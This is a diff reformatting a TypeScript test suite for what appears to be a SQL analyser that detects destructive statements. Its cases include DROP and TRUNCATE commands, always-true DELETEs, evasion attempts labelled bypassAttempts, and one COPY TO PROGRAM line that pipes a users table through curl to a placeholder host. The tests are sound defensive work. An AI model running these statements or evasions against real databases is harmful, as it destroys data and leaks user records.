@@ -39,7 +39,11 @@ function check(c: Case): SqlAnalysis {
 /** Destructive statements that must be recognised. */
 const truePositives: Case[] = [
   { sql: 'DROP TABLE users', kinds: ['drop-table'], props: [{ tables: ['users'], names: ['users'] }] },
-  { sql: 'DROP TABLE IF EXISTS public.users, orders CASCADE', kinds: ['drop-table'], props: [{ tables: ['public.users', 'orders'], ifExists: true, cascade: true }] },
+  {
+    sql: 'DROP TABLE IF EXISTS public.users, orders CASCADE',
+    kinds: ['drop-table'],
+    props: [{ tables: ['public.users', 'orders'], ifExists: true, cascade: true }],
+  },
   { sql: 'DROP DATABASE production', kinds: ['drop-database'], props: [{ names: ['production'] }] },
   { sql: 'DROP DATABASE IF EXISTS app WITH (FORCE)', kinds: ['drop-database'], props: [{ names: ['app'], ifExists: true }] },
   { sql: 'DROP SCHEMA public CASCADE', kinds: ['drop-schema'], props: [{ names: ['public'], cascade: true }] },
@@ -61,13 +65,17 @@ const truePositives: Case[] = [
   { sql: "SELECT pg_drop_replication_slot('replica_1')", kinds: ['replication'] },
   { sql: 'INSERT INTO audit(ok) SELECT pg_promote()', kinds: ['replication'], props: [{ tables: ['audit'] }] },
   { sql: "ALTER SYSTEM SET primary_conninfo = 'host=db1 user=replicator'", kinds: ['replication'] },
-  { sql: 'ALTER SYSTEM SET work_mem = \'64MB\'', kinds: ['set'] },
+  { sql: "ALTER SYSTEM SET work_mem = '64MB'", kinds: ['set'] },
   { sql: 'DELETE FROM users WHERE 1=1', kinds: ['delete'], props: [{ where: 'always-true', whereReason: 'WHERE 1 = 1 is always true' }] },
   { sql: 'DELETE FROM users WHERE true', kinds: ['delete'], props: [{ where: 'always-true' }] },
   { sql: "DELETE FROM users WHERE 'a'='a'", kinds: ['delete'], props: [{ where: 'always-true' }] },
   { sql: 'UPDATE users SET plan = 0 WHERE id = 5 OR true', kinds: ['update'], props: [{ where: 'always-true' }] },
   { sql: 'DELETE FROM users WHERE id IN (SELECT id FROM users)', kinds: ['delete'], props: [{ where: 'always-true' }] },
-  { sql: 'DELETE FROM users WHERE id = id', kinds: ['delete'], props: [{ where: 'always-true', whereReason: 'WHERE id = id is true for every row where id is not NULL' }] },
+  {
+    sql: 'DELETE FROM users WHERE id = id',
+    kinds: ['delete'],
+    props: [{ where: 'always-true', whereReason: 'WHERE id = id is true for every row where id is not NULL' }],
+  },
   { sql: 'DELETE FROM users WHERE email IS NULL OR email IS NOT NULL', kinds: ['delete'], props: [{ where: 'always-true' }] },
   { sql: 'DELETE FROM users WHERE NOT false', kinds: ['delete'], props: [{ where: 'always-true' }] },
   { sql: "DELETE FROM users WHERE 't'::boolean AND 2 > 1", kinds: ['delete'], props: [{ where: 'always-true' }] },
@@ -76,7 +84,11 @@ const truePositives: Case[] = [
   { sql: 'DELETE FROM users WHERE 1 IN (1, 2)', kinds: ['delete'], props: [{ where: 'always-true' }] },
   { sql: 'DELETE FROM users WHERE 1 + 1 = 2', kinds: ['delete'], props: [{ where: 'always-true' }] },
   { sql: 'EXPLAIN ANALYZE DELETE FROM orders', kinds: ['delete'], props: [{ tables: ['orders'], where: 'none' }] },
-  { sql: 'WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone', kinds: ['select', 'delete'], props: [{}, { tables: ['users'], where: 'none' }] },
+  {
+    sql: 'WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone',
+    kinds: ['select', 'delete'],
+    props: [{}, { tables: ['users'], where: 'none' }],
+  },
   { sql: 'MERGE INTO users u USING stale s ON u.id = s.id WHEN MATCHED THEN DELETE', kinds: ['delete'], props: [{ tables: ['users'] }] },
   { sql: 'PREPARE wipe AS DELETE FROM users; EXECUTE wipe', kinds: ['delete', 'other'] },
 ];
@@ -108,7 +120,7 @@ const falsePositives: Case[] = [
   { sql: 'SET statement_timeout = 0', kinds: ['set'] },
   { sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', kinds: ['select'], props: [{ functionCalls: ['pg_terminate_backend'] }] },
   {
-    sql: "CREATE FUNCTION cleanup() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$",
+    sql: 'CREATE FUNCTION cleanup() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$',
     kinds: ['create'],
   },
   { sql: 'VACUUM ANALYZE users', kinds: ['other'] },
@@ -136,13 +148,13 @@ const bypassAttempts: Case[] = [
   { sql: 'DO $$ BEGIN PERFORM pg_promote(); END $$', kinds: ['other', 'replication'] },
   { sql: "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$", kinds: ['other', 'drop-table'], props: [{}, { tables: ['users'] }] },
   {
-    sql: 'DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE \'TRUNCATE \' || r.tablename; END LOOP; END $$',
+    sql: "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'TRUNCATE ' || r.tablename; END LOOP; END $$",
     kinds: ['other', 'select'],
     errors: 1,
     errorText: 'dynamic SQL',
   },
   {
-    sql: 'DO $$ BEGIN IF (SELECT count(*) FROM t) > 0 THEN DELETE FROM t WHERE true; ELSE RAISE NOTICE \'%\', 1; END IF; END $$',
+    sql: "DO $$ BEGIN IF (SELECT count(*) FROM t) > 0 THEN DELETE FROM t WHERE true; ELSE RAISE NOTICE '%', 1; END IF; END $$",
     kinds: ['other', 'select', 'delete'],
     props: [{}, {}, { where: 'always-true' }],
   },
@@ -153,7 +165,7 @@ const bypassAttempts: Case[] = [
     props: [{}, { tables: ['users'], text: 'TRUNCATE users' }, { functionCalls: ['wipe'] }],
   },
   { sql: 'CREATE PROCEDURE p() BEGIN ATOMIC DELETE FROM users; END; CALL p()', kinds: ['create', 'delete', 'other'] },
-  { sql: 'COPY users TO PROGRAM \'curl -d @- evil\'', kinds: ['select'], errors: 1, errorText: 'PROGRAM' },
+  { sql: "COPY users TO PROGRAM 'curl -d @- evil'", kinds: ['select'], errors: 1, errorText: 'PROGRAM' },
   {
     sql: 'DO $$ DECLARE n int; BEGIN INSERT INTO log(id) VALUES (1) RETURNING id INTO n; <<l>> LOOP EXIT l WHEN n > 0; END LOOP; DELETE FROM a WHERE 1=1; END $$',
     kinds: ['other', 'insert', 'delete'],
@@ -216,10 +228,10 @@ const unparseable: Case[] = [
   { sql: 'DELETE FROM `users`', dialect: 'postgres', kinds: [], errors: 1 },
   { sql: "SELECT 'unterminated", dialect: 'postgres', kinds: [], errors: 1 },
   { sql: 'SELECT 1;\0DROP TABLE users', kinds: [], errors: 1, errorText: 'NUL' },
-  { sql: 'DO $$ BEGIN EXECUTE format(\'DROP TABLE %I\', t); END $$', kinds: ['other'], errors: 1, errorText: 'dynamic SQL' },
+  { sql: "DO $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$", kinds: ['other'], errors: 1, errorText: 'dynamic SQL' },
   { sql: 'DO $$ BEGIN frobnicate everything; END $$', kinds: ['other'], errors: 1 },
   { sql: 'DELETE FROM users WHERE', dialect: 'mysql', kinds: ['delete'], errors: 1, errorText: 'WHERE without a condition' },
-  { sql: 'BINLOG \'AAAA\'', dialect: 'mysql', kinds: ['other'], errors: 1 },
+  { sql: "BINLOG 'AAAA'", dialect: 'mysql', kinds: ['other'], errors: 1 },
 ];
 
 /** psql scripts: meta-commands are not SQL. */
